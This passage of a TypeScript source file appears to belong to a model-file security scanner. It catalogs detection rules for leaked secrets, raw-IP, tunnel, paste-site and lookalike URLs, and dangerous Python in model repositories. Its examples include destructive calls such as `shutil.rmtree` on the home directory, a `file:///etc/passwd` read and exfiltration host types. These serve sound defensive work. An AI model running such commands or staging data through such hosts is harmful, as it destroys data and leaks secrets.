    why:
      "`https://user:password@host/` sends the password with every request and leaks it to every reader of the file, the logs and the process list.",
    example: '`mirror: "https://deploy:s3cr3tPassw0rd@models.example.com/simple"`.',
    fix: "Change the password, remove it from the URL, and use a credential helper or the environment.",
  },
  MA546: {
    id: "MA546",
    name: "config-generic-secret",
    kind: "security",
    severity: "warning",
    cwe: 798,
    title: "A secret-named configuration key holds a value that looks like a real secret",
    why:
      "A `password`, `secret`, `api_key`, `client_secret` or `access_token` key whose value is random enough to be a key (entropy above that of 99 % of random strings of its length), and is no placeholder (`${VAR}`, `<your-key>`, `changeme`), digest, UUID, path or special token, is likely a credential in a format modelaudit does not know by name.",
    example: '`wandb: {api_key: "q8Zr2LxVt0PmW4kNc7YaB3"}` in a training config.',
    fix:
      "Check whether the value is a live secret; if so revoke it and read it from the environment instead.",
  },
  MA550: {
    id: "MA550",
    name: "config-raw-ip-url",
    kind: "security",
    severity: "warning",
    cwe: 494,
    title: "A configuration value points at a public raw IP address or a cloud metadata endpoint",
    why:
      "Model hubs, mirrors and package indexes are reached by name; a URL to a bare public address (however written: `http://3405803785/` is `203.0.113.9`) is how a second stage is fetched from a server nobody can look up. A cloud metadata address (`169.254.169.254`) is critical: it serves the instance's credentials. Loopback and private addresses are not reported: they name a local server the config deploys with.",
    example: '`weights_url: "http://203.0.113.9/model.bin"`.',
    fix:
      "Find out what the address serves and who put it there; fetch weights only from a named, trusted host.",
  },
  MA551: {
    id: "MA551",
    name: "config-paste-site-url",
    kind: "security",
    severity: "warning",
    cwe: 494,
    title: "A configuration value points at a paste site",
    why:
      "Paste sites serve raw text anyone can post and change: where second stages and exfiltration scripts are staged.",
    example: '`post_install: "https://pastebin.com/raw/Ab12Cd34"`.',
    fix: "Read what the paste holds; do not let any loader fetch it.",
  },
  MA552: {
    id: "MA552",
    name: "config-url-shortener",
    kind: "security",
    severity: "warning",
    cwe: 601,
    title: "A configuration value points through a URL shortener",
    why:
      "A short link hides where it leads, and its owner can change the target after the model was reviewed.",
    example: '`download_url: "https://bit.ly/3xYzAbC"`.',
    fix: "Replace the short link with the URL it leads to, after checking that URL.",
  },
  MA553: {
    id: "MA553",
    name: "config-tunnel-url",
    kind: "security",
    severity: "warning",
    cwe: 200,
    title: "A configuration value points at a tunnel or a request-capture host",
    why:
      "ngrok, Cloudflare quick tunnels, localtunnel, serveo and request-capture services (webhook.site, interactsh, Burp Collaborator) reach a private machine or record what is sent: how data is exfiltrated or a payload served from a laptop.",
    example: '`callback_url: "https://a1b2c3.ngrok-free.app/collect"`.',
    fix: "Remove the URL; find out who controls the tunnel and what was sent to it.",
  },
  MA554: {
    id: "MA554",
    name: "config-file-drop-url",
    kind: "security",
    severity: "warning",
    cwe: 494,
    title: "A configuration value points at an anonymous file host",
    why:
      "transfer.sh, file.io, temp.sh, catbox and similar hosts take uploads without an account and serve them for a while: nobody can later tell what the link served, and malware is staged there.",
    example: '`checkpoint: "https://transfer.sh/abc123/model.pt"`.',
    fix: "Obtain the file from its publisher's hub or repository instead, and scan it.",
  },
  MA555: {
    id: "MA555",
    name: "config-file-url",
    kind: "security",
    severity: "warning",
    cwe: 73,
    title: "A configuration value holds a file:// URL",
    why:
      "A `file://` URL makes the code that reads the config open a file of the machine it runs on (`file:///etc/passwd`, a network share `file://server/share`): a way to read secrets into a model's outputs or to load an unscanned file.",
    example: '`tokenizer_url: "file:///etc/passwd"`.',
    fix: "Use a path relative to the model's folder, or remove the entry.",
  },
  MA556: {
    id: "MA556",
    name: "config-insecure-download-url",
    kind: "security",
    severity: "warning",
    cwe: 319,
    title: "A configuration value fetches weights or code over plain http://",
    why:
      "A download over http:// can be replaced by anyone on the network path; weights that are pickles and scripts run when loaded, so a swapped file runs the attacker's code. It is reported when the path ends in a weight, archive or script extension, or the key names a download (`download_url`, `weights`, `checkpoint`).",
    example: '`pretrained_url: "http://models.example.com/resnet50.pth"`.',
    fix: "Use https://, and pin the file's hash.",
  },
  MA557: {
    id: "MA557",
    name: "config-lookalike-host",
    kind: "security",
    severity: "critical",
    cwe: 1007,
    title: "A configuration value points at a host that imitates a model hub or code host",
    why:
      "An internationalised name whose letters look like `huggingface.co` or `github.com` (a Cyrillic `\u04bb`, a Greek `\u03bf`), a one-letter typo (`hugginface.co`) or the real name as a subdomain of another (`huggingface.co.example.net`) exists to be mistaken for the real host: a reviewer sees the hub, the loader downloads from the attacker.",
    example: '`model_url: "https://xn--uggingface-nzj.co/gpt2"` (`\u04bbuggingface.co`).',
    fix: "Do not load the model; replace the URL with the real host's, and find out who put it there.",
  },
  MA600: {
    id: "MA600",
    name: "python-import-time-execution",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "Python source runs a command, code, a native library or a download when it is imported",
    why:
      "`trust_remote_code=True` imports the repository's `modeling_*.py`, TorchServe imports its handler: whatever runs at module level, in a class body, a decorator or a default argument, or in a function the module calls there, runs on load before any model is used. Model code builds layers; it does not spawn processes, evaluate strings, load native libraries or download at import.",
    example: '`import os` then `os.system("echo pwned")` at the top level of `modeling_evil.py`.',
    fix: LOAD_FIX,
  },
  MA601: {
    id: "MA601",
    name: "python-dangerous-call",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "Python source calls a function that runs commands, code, native libraries or downloads",
    why:
      "A call inside a function or method runs when that function is called: a model's `forward` or `__init__`, a handler's `initialize`. Some real code does this (a download helper, a compiled kernel), so read what the call runs before loading the model.",
    example: '`subprocess.run(["echo", "pwned"])` inside a method of `modeling_evil.py`.',
    fix: "Read the call and what it runs; load the model only if it is expected, or pin a reviewed revision.",
  },
  MA602: {
    id: "MA602",
    name: "python-file-or-internals",
    kind: "security",
    severity: "warning",
    title: "Python source writes or deletes files, exits, or reaches interpreter internals",
    why:
      "Writing or deleting files (`shutil.rmtree`, `open(path, 'w')`), exiting the interpreter or walking frames and code objects is rare in model code and destructive at import; inside a function (info) it is often a cache or a checkpoint being saved.",
    example: '`shutil.rmtree(os.path.expanduser("~"))` at the top level of `modeling_evil.py`.',
    fix: "Read what the call touches before loading the model.",
  },
  MA603: {
    id: "MA603",
    name: "python-unparsable",
    kind: "integrity",
    severity: "info",
    title: "A Python file does not parse",
    why:
      "Python refuses to import a file with a syntax error, but a file in syntax newer than the parser knows still runs; its calls are reported as far as the parser recovered, and what it could not read may hide more. A few recovered errors in a long file are the parser's gaps (a bare `yield`, a float written `1.`), not the file's: the rule fires past one error per 20 lines.",
    example: "A `.py` file with `def broken(:`.",
    fix: "Read the file; a model's code must be valid Python.",
  },
  MA604: {
    id: "MA604",
    name: "python-not-analysed",
    kind: "limit",
    severity: "info",
    title: "A Python file was not analysed completely: larger than the scan's limits",
    why:
      "A file larger than `python.maxSourceBytes`, with more syntax nodes than `python.maxSyntaxNodes` or more dangerous calls than `python.maxReportedCalls`, is analysed only in part: the rest may hide calls.",
    example: "A `modeling_huge.py` of over 16 MiB, the default `python.maxSourceBytes`.",
    fix: "Raise the limit (`--limit python.maxSourceBytes=...`) to analyse it, or read the file.",
  },
  MA630: {
    id: "MA630",
    name: "hf-remote-code",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A Hugging Face config loads Python code shipped with the model (trust_remote_code)",
    why:
      "An `auto_map` entry (config.json, tokenizer_config.json, processor and preprocessor configs) or a `custom_pipelines` `impl` names a module of the repository: transformers imports it, running its code, once the user passes `trust_remote_code=True`. Whoever can change the repository can change that code.",
    example:
      '`"auto_map": {"AutoModelForCausalLM": "modeling_x.XForCausalLM"}` in `config.json`, with `modeling_x.py` beside it.',
    fix:
      "Read the module (and what it imports) before loading with trust_remote_code=True, and pin the revision you read; prefer a model whose architecture transformers ships.",
  },
  MA631: {
    id: "MA631",
    name: "hf-remote-code-other-repository",
    kind: "security",
    severity: "warning",
    cwe: 829,
    title: "A Hugging Face config loads Python code from another repository",
    why:
      "An entry written `org/repo--module.Class` makes transformers download `module.py` from that other repository and run it (with trust_remote_code=True): code that is not in the folder scanned, that nobody reviewed with the model, and that its owner can change at any time.",
    example: '`"auto_map": {"AutoModel": "someone/other-repo--modeling_x.XModel"}` in `config.json`.',
    fix:
      "Copy the module into the model's repository at a reviewed revision and point the entry at it, or do not load the model with trust_remote_code=True.",
  },
  MA632: {
    id: "MA632",
    name: "hf-remote-code-missing",
    kind: "integrity",
    severity: "info",
    title: "The module a Hugging Face config names is not in the folder",
    why:
      "transformers would fetch the module named by `auto_map` from the Hub when the model is loaded by its repository name, or fail when it is loaded from this folder: the code that would run was not scanned.",
    example: '`"auto_map": {"AutoModel": "modeling_x.XModel"}` in a folder without `modeling_x.py`.',
    fix: "Download the whole repository, the `.py` files included, and scan it.",
  },
  MA633: {
    id: "MA633",
    name: "hf-remote-code-dangerous-call",
    kind: "security",
    severity: "critical",
    cwe: 94,
    title: "The remote code a Hugging Face config loads makes dangerous calls",
    why:
      "The module an `auto_map` or `custom_pipelines` entry names is in the folder, and its code (or a module of the folder it imports relatively, which transformers fetches with it) calls what runs commands, evaluates code, loads native code or reaches the network: loading the model with trust_remote_code=True runs it. Critical when the call runs at import time; a warning when it stands only in function bodies.",
    example: "`modeling_x.py` named by `config.json`'s `auto_map` calls `os.system` at import time.",
    fix: LOAD_FIX,
  },
  MA634: {
    id: "MA634",
    name: "hf-config-malformed",
    kind: "integrity",
    severity: "warning",
    title: "A Hugging Face config does not parse, or its auto_map is malformed",
    why:
      "transformers refuses a config that is not a JSON object, and reads `auto_map` entries as `module.Class` (or `[slow, fast]` for tokenizers): a config that does not parse was not checked for remote code, and an entry of another shape breaks loaders in different ways.",
    example: '`"auto_map": {"AutoModel": 42}` in `config.json`.',
    fix: "Re-create the config with transformers (`save_pretrained`) from a trusted source.",
  },
  MA635: {
    id: "MA635",
    name: "git-lfs-pointer",
    kind: "limit",
    severity: "info",
    title: "A Git LFS pointer stands where a file should be: its content was not downloaded",
    why:
      "A repository cloned without `git lfs` holds small text pointers (`version https://git-lfs.github.com/spec/v1`, an oid and a size) in place of its large files: the weights were not downloaded, so nothing of them was scanned, and what `git lfs pull` brings later is unscanned.",
    example:
      "A `pytorch_model.bin` of three lines, `version https://git-lfs.github.com/spec/v1`, `oid sha256:...`, `size 548118077`.",
    fix: "Run `git lfs pull` (or download the files) and scan again.",
  },
  MA636: {
    id: "MA636",
    name: "torchserve-custom-handler",
    kind: "security",
    severity: "warning",
    cwe: 94,
    title: "A TorchServe archive runs a custom handler",
    why:
      "A `.mar` archive's manifest names the handler TorchServe imports to serve the model: a handler that is not one of TorchServe's built-in ones is Python code from the archive, run by the server when the model is registered.",
    example: '`"handler": "custom_handler.py"` in a `.mar` archive\'s `MAR-INF/MANIFEST.json`.',
    fix:
      "Read the handler (and the other .py files of the archive) before registering the model, or re-archive it with a built-in handler.",
  },
  MA637: {
    id: "MA637",
    name: "torchserve-manifest-malformed",
    kind: "integrity",
    severity: "warning",
    title: "A TorchServe archive's manifest is malformed or names a missing file",
    why:
      "TorchServe reads `MAR-INF/MANIFEST.json` to find the handler and the serialized model: a manifest that does not parse, lacks `model.handler`, or names files the archive does not hold fails to load, or loads something other than what was reviewed.",
    example: '`"serializedFile": "model.pt"` in the manifest of a `.mar` without `model.pt`.',
    fix: "Re-create the archive with torch-model-archiver from a trusted source.",
  },
  MA638: {
    id: "MA638",
    name: "hf-config-not-checked",
    kind: "limit",
    severity: "info",
    title: "A Hugging Face config was not checked for remote code: it is past a limit",
    why:
      "A config file larger than `huggingface.maxConfigBytes` is not parsed, so its `auto_map` and `custom_pipelines` were not checked; real configs are kilobytes, tokenizer configs a few megabytes.",
    example: "A 100 MB `config.json` scanned with the default `huggingface.maxConfigBytes`.",
    fix:
      "Raise `huggingface.maxConfigBytes` (`--limit huggingface.maxConfigBytes=...`), or find out why the config is so large.",
  },
} as const satisfies Record<`MA${number}`, CatalogEntry>;

/**
 * A rule id of the catalog, e.g. `"MA100"`.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { RULES, type RuleId } from "./rules.ts";
 * const id: RuleId = "MA100";
 * assert.ok(id in RULES);
 * // @ts-expect-error: "MA999" is no rule, so it does not type-check (`deno task check` fails if it does)
 * const unknown: RuleId = "MA999";
 * assert.ok(!(unknown in RULES));
 * ```
 */
export type RuleId = keyof typeof RULES;

/**
 * Whether `id` is a rule id of the catalog (exactly, upper case).
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { isRuleId } from "./rules.ts";
 * assert.equal(isRuleId("MA100"), true);
 * assert.equal(isRuleId("MA999"), false);
 * ```
 */
export function isRuleId(id: string): id is RuleId {
  return Object.hasOwn(RULES, id);
}

/**
 * Looks up a rule by id, typed as the common {@linkcode Rule} rather than its literal entry.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { getRule } from "./rules.ts";
 * assert.equal(getRule("MA101").severity, "critical");
 * ```
 */
export function getRule(id: RuleId): Rule {
  return RULES[id];
}

/**
 * Whether `text` names rules: a rule id of the catalog (`MA102`), or a prefix of at least one
 * (`MA`, `MA1`, `MA10`), as ruff's `--select` takes them.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { isRuleSelector } from "./rules.ts";
 * assert.equal(isRuleSelector("MA1"), true);
 * assert.equal(isRuleSelector("MA100"), true);
 * assert.equal(isRuleSelector("MA999"), false); // no such rule
 * assert.equal(isRuleSelector("M"), false); // at least `MA`
 * ```
 */
export function isRuleSelector(text: string): boolean {
  return /^MA\d{0,3}$/.test(text) && Object.keys(RULES).some((id) => id.startsWith(text));
}
